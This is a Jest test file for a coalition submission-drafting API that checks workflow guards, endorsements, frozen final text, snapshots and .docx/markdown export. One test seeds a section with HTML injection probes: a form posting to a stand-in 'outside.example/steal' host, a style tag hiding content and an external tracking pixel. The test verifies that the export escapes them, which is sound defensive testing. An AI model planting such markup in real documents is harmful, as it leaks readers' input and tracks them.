import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Organization } from '../src/organizations/organization.entity.js';
import { type Actor, makeOrganization, makeUser } from './support/factories.js';
import { binary, makeSection, makeSubmission, unzipEntry } from './support/submission-factories.js';
import { startTestApp, type TestApp } from './support/test-app.js';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

describe('submission workflow: guards, sign-off and the frozen final text', () => {
  let t: TestApp;
  let lead: Organization;
  let lac: Organization;
  let tlc: Organization;
  let coordinator: Actor;
  let leadMember: Actor;
  let lacMember: Actor;
  let tlcMember: Actor;

  beforeAll(async () => {
    t = await startTestApp();
    lead = await makeOrganization(t, { name: 'Child Rights Coalition Cambodia' });
    lac = await makeOrganization(t, { name: 'Legal Aid of Cambodia' });
    tlc = await makeOrganization(t, { name: 'This Life Cambodia' });
    coordinator = await makeUser(t, { role: 'coordinator' });
    leadMember = await makeUser(t, { organizationId: lead.id });
    lacMember = await makeUser(t, { organizationId: lac.id });
    tlcMember = await makeUser(t, { organizationId: tlc.id });
  });
  afterAll(() => t.close());

  async function draftWithSections() {
    const submission = await makeSubmission(coordinator, {
      leadOrganizationId: lead.id,
      partners: [
        { organizationId: lac.id, requiredSigner: true },
        { organizationId: tlc.id, requiredSigner: false },
      ],
      title: 'Comment on draft General Comment No. 26',
      sessionReference: 'First draft, consultation until 15 February 2023',
    });
    const move = (to: string, actor: Actor = coordinator, extra: Record<string, unknown> = {}) =>
      actor.as.post(`/api/v1/submissions/${submission.id}/transitions`).send({ to, ...extra });
    const intro = await makeSection(leadMember, submission.id, {
      title: 'Introduction',
      body: 'The Child Justice Network welcomes the **first draft** of General Comment No. 26.',
      status: 'ready',
    });
    const access = await makeSection(leadMember, submission.id, {
      title: 'Access to justice',
      assigneeId: lacMember.user.id,
      body: '- Children need child-friendly complaint mechanisms.\n- Legal aid must be free.',
    });
    return { submission, move, intro, access };
  }

  it('refuses moves outside the workflow with 409 and the reason', async () => {
    const { move } = await draftWithSections();
    const res = await move('submitted').expect(409);
    expect(res.body).toMatchObject({ statusCode: 409, error: 'Conflict' });
    expect(res.body.message).toContain('cannot move from planned to submitted');
    expect(res.body.details).toEqual({
      code: 'submission.moveNotAllowed',
      from: 'planned',
      to: 'submitted',
      next: ['drafting', 'withdrawn'],
    });
    await move('drafting').expect(200);
    await move('nonsense').expect(400);
  });

  it('review needs every section ready; a member cannot override; a coordinator can, with a recorded reason', async () => {
    const { submission, move, access } = await draftWithSections();
    await move('drafting').expect(200);
    const blocked = await move('review', leadMember).expect(409);
    expect(blocked.body.message).toContain('"Access to justice"');
    expect(blocked.body.message).not.toContain('"Introduction"');
    expect(blocked.body.details.blockers).toHaveLength(1);
    // The refusal's code and parameters, for a client to say it in the reader's language.
    expect(blocked.body.details).toMatchObject({
      code: 'submission.conditionsNotMet',
      problems: [{ code: 'submission.sectionsNotReady', sections: ['Access to justice'] }],
    });
    await move('review', leadMember, { reason: 'please', override: true }).expect(403);
    await move('review', leadMember, { reason: 'please' }).expect(409);
    await move('review', coordinator).expect(409); // no reason, no override

    const overridden = await move('review', coordinator, { reason: 'Partners review the annex in parallel' }).expect(
      200,
    );
    expect(overridden.body.status).toBe('review');
    const activity: { changes: { overridden: string[]; reason: string }; summary: string }[] = await t.db.query(
      `SELECT changes, summary FROM activity WHERE subject_id = $1 AND action = 'submission.transitioned' ORDER BY created_at DESC LIMIT 1`,
      [submission.id],
    );
    expect(activity[0].changes.reason).toBe('Partners review the annex in parallel');
    expect(activity[0].changes.overridden[0]).toContain('Access to justice');
    expect(activity[0].summary).toContain('overriding');

    // Back to drafting and forward again once every section is ready: no override needed.
    await move('drafting', leadMember).expect(200);
    await lacMember.as
      .patch(`/api/v1/submissions/${submission.id}/sections/${access.id}`)
      .send({ version: 1, status: 'ready' })
      .expect(200);
    await move('review', leadMember).expect(200);
  });

  it('submitting needs every required signer; endorsements can be withdrawn before submission', async () => {
    const { submission, move, access } = await draftWithSections();
    await lacMember.as
      .patch(`/api/v1/submissions/${submission.id}/sections/${access.id}`)
      .send({ version: 1, status: 'approved' })
      .expect(200);
    await move('drafting').expect(200);
    await move('review').expect(200);
    await move('sign_off').expect(200);

    const endorsements = `/api/v1/submissions/${submission.id}/endorsements`;
    await tlcMember.as.post(endorsements).send({ displayName: 'This Life Cambodia (TLC)' }).expect(201);
    await tlcMember.as.post(endorsements).send({}).expect(409);
    await tlcMember.as.post(endorsements).send({ organizationId: lac.id }).expect(403);

    const blocked = await move('submitted').expect(409);
    expect(blocked.body.message).toContain('Required signers have not endorsed: Legal Aid of Cambodia');

    const lacSigned = await lacMember.as.post(endorsements).send({}).expect(201);
    expect(lacSigned.body).toMatchObject({
      displayName: 'Legal Aid of Cambodia',
      organizationId: lac.id,
      endorsedBy: { id: lacMember.user.id },
    });
    await tlcMember.as.delete(`${endorsements}/${lacSigned.body.id}`).expect(403);
    await lacMember.as.delete(`${endorsements}/${lacSigned.body.id}`).expect(204);
    await move('submitted').expect(409);
    const view = await coordinator.as.get(`/api/v1/submissions/${submission.id}`).expect(200);
    expect(view.body.signOff).toEqual({ requiredSigners: 1, endorsed: 0, missing: ['Legal Aid of Cambodia'] });

    const again = await lacMember.as
      .post(endorsements)
      .send({ displayName: 'Legal Aid of Cambodia (LAC)' })
      .expect(201);
    const list = await leadMember.as.get(endorsements).expect(200);
    expect(list.body.items.map((e: { displayName: string }) => e.displayName)).toEqual([
      'This Life Cambodia (TLC)',
      'Legal Aid of Cambodia (LAC)',
    ]);
    expect((await leadMember.as.get(`${endorsements}?includeWithdrawn=true`).expect(200)).body.total).toBe(3);

    const submitted = await move('submitted').expect(200);
    expect(submitted.body.status).toBe('submitted');
    expect(submitted.body.submittedAt).toBeTruthy();
    expect(submitted.body.finalSnapshotId).toBeTruthy();
    await lacMember.as.delete(`${endorsements}/${again.body.id}`).expect(409);
    await leadMember.as.post(endorsements).send({}).expect(409);
  });

  it('a coordinator can override the signer guard with a reason', async () => {
    const { move } = await draftWithSections();
    await move('drafting').expect(200);
    await move('review', coordinator, { reason: 'Sections reviewed offline' }).expect(200);
    await move('sign_off').expect(200);
    await move('submitted', coordinator, { reason: 'LAC confirmed by e-mail', override: false }).expect(409);
    const res = await move('submitted', coordinator, { reason: 'LAC confirmed by e-mail', override: true }).expect(200);
    expect(res.body.status).toBe('submitted');
  });

  it('freezes the assembled text on submission: later edits are refused and the document stays as sent', async () => {
    const { submission, move, intro, access } = await draftWithSections();
    const base = `/api/v1/submissions/${submission.id}`;
    await lacMember.as.patch(`${base}/sections/${access.id}`).send({ version: 1, status: 'ready' }).expect(200);
    await move('drafting').expect(200);
    await move('review').expect(200);
    await move('sign_off').expect(200);
    await lacMember.as.post(`${base}/endorsements`).send({ displayName: 'Legal Aid of Cambodia (LAC)' }).expect(201);
    const before = await leadMember.as.get(`${base}/document?format=md`).expect(200);
    expect(before.headers['content-type']).toContain('text/markdown');
    expect(before.text).toContain('# Comment on draft General Comment No. 26');
    expect(before.text.indexOf('## Introduction')).toBeLessThan(before.text.indexOf('## Access to justice'));
    expect(before.text).toContain('## Signatories\n\n- Legal Aid of Cambodia (LAC)');
    expect(before.headers['x-final-text']).toBe('false');

    await move('submitted').expect(200);

    const edit = await leadMember.as
      .patch(`${base}/sections/${intro.id}`)
      .send({ version: 1, body: 'Changed after sending' })
      .expect(409);
    expect(edit.body.message).toContain('frozen');
    await leadMember.as.post(`${base}/sections`).send({ title: 'Late annex' }).expect(409);
    await leadMember.as.delete(`${base}/sections/${intro.id}`).expect(409);
    await leadMember.as
      .post(`${base}/sections/reorder`)
      .send({ sectionIds: [access.id, intro.id] })
      .expect(409);
    await coordinator.as.patch(base).send({ title: 'Renamed' }).expect(409);

    // Proof of receipt and the published link can still be recorded.
    const ack = await coordinator.as
      .patch(base)
      .send({
        acknowledgedAt: '2023-02-16',
        acknowledgementNote: 'Receipt e-mail from the CRC secretariat',
        publishedUrl: 'https://www.ohchr.org/gc26-submissions',
      })
      .expect(200);
    expect(ack.body).toMatchObject({
      acknowledgedAt: '2023-02-16',
      publishedUrl: 'https://www.ohchr.org/gc26-submissions',
    });

    const after = await leadMember.as.get(`${base}/document`).expect(200);
    expect(after.text).toBe(before.text);
    expect(after.headers['x-final-text']).toBe('true');

    const snapshots = await leadMember.as.get(`${base}/snapshots`).expect(200);
    expect(snapshots.body.items).toHaveLength(1);
    expect(snapshots.body.items[0]).toMatchObject({ kind: 'final' });
    const final = await leadMember.as.get(`${base}/snapshots/${snapshots.body.items[0].id}`).expect(200);
    expect(final.body.markdown).toBe(before.text);

    await move('published').expect(200);
    await move('drafting').expect(409);
  });

  it('exports the assembled text as a .docx that opens and holds the sections and signatories', async () => {
    const { submission } = await draftWithSections();
    await lacMember.as
      .post(`/api/v1/submissions/${submission.id}/endorsements`)
      .send({ displayName: 'Legal Aid of Cambodia (LAC)' })
      .expect(201);
    const res = await leadMember.as
      .get(`/api/v1/submissions/${submission.id}/document?format=docx`)
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(res.headers['content-type']).toBe(DOCX);
    expect(res.headers['content-disposition']).toContain('comment-on-draft-general-comment-no-26.docx');
    const body = res.body as Buffer;
    expect(body.subarray(0, 2).toString()).toBe('PK');
    const xml = unzipEntry(body, 'word/document.xml');
    expect(xml).toContain('Comment on draft General Comment No. 26');
    expect(xml).toContain('Introduction');
    expect(xml).toContain('first draft');
    expect(xml).toContain('Access to justice');
    expect(xml).toContain('Legal aid must be free.');
    expect(xml).toContain('Legal Aid of Cambodia (LAC)');
    expect(xml.indexOf('Introduction')).toBeLessThan(xml.indexOf('Access to justice'));

    const viaAccept = await leadMember.as
      .get(`/api/v1/submissions/${submission.id}/document`)
      .set('Accept', DOCX)
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(viaAccept.headers['content-type']).toBe(DOCX);
    await leadMember.as.get(`/api/v1/submissions/${submission.id}/document?format=pdf`).expect(400);
  });

  it('exports raw HTML in a section as text, and fetches or embeds no image from another host (.md and .docx)', async () => {
    const { submission } = await draftWithSections();
    await makeSection(leadMember, submission.id, {
      title: 'Probe',
      body: [
        '<style>body{display:none}</style>',
        'Text <form action="https://outside.example/steal"><input name="p"></form>',
        '![tracking pixel](https://outside.example/pixel.png)',
        '![our logo](/api/v1/files/logo)',
      ].join('\n\n'),
    });
    const base = `/api/v1/submissions/${submission.id}`;
    const md = (await leadMember.as.get(`${base}/document?format=md`).expect(200)).text;
    expect(md).toContain('&lt;style>body{display:none}&lt;/style>');
    expect(md).toContain('Text &lt;form action="https://outside.example/steal">&lt;input name="p">&lt;/form>');
    expect(md).not.toMatch(/<(style|form|input)\b/);
    expect(md).toContain('tracking pixel');
    expect(md).not.toContain('pixel.png');
    expect(md).toContain('![our logo](/api/v1/files/logo)');
    const preview = await leadMember.as.get(`${base}/document?format=json`).expect(200);
    expect(preview.body.markdown).toBe(md);

    const docx = await leadMember.as.get(`${base}/document?format=docx`).buffer(true).parse(binary).expect(200);
    const xml = unzipEntry(docx.body as Buffer, 'word/document.xml');
    expect(xml).toContain('&lt;style&gt;body{display:none}&lt;/style&gt;');
    expect(xml).toContain('tracking pixel');
    expect(xml).toContain('our logo');
    expect(xml).not.toContain('pixel.png');
    expect(xml).not.toContain('/api/v1/files/logo');
    expect(xml).not.toContain('<w:drawing');
  });

  it('keeps named snapshots for review rounds', async () => {
    const { submission, intro } = await draftWithSections();
    const base = `/api/v1/submissions/${submission.id}`;
    const snap = await coordinator.as.post(`${base}/snapshots`).send({ name: 'Sent to partners 1 Oct' }).expect(201);
    expect(snap.body).toMatchObject({ name: 'Sent to partners 1 Oct', kind: 'named' });
    expect(snap.body.markdown).toContain('welcomes the **first draft**');
    await leadMember.as
      .patch(`${base}/sections/${intro.id}`)
      .send({ version: 1, body: 'Rewritten introduction.' })
      .expect(200);
    const kept = await leadMember.as.get(`${base}/snapshots/${snap.body.id}`).expect(200);
    expect(kept.body.markdown).toContain('welcomes the **first draft**');
    expect(kept.body.markdown).not.toContain('Rewritten');
    await coordinator.as.post(`${base}/snapshots`).send({}).expect(400);
  });
});
